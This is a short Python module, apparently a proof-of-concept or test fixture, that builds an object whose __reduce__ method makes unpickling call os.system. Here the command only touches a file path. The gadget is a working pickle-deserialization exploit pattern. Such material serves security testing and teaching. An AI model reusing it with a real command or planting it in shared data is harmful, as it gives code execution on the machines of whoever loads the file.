"""Return an object whose pickle runs a shell command when loaded."""

import os


class _Payload:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (os.system, (f"touch {self.path}",))


def run(path):
    return _Payload(path)
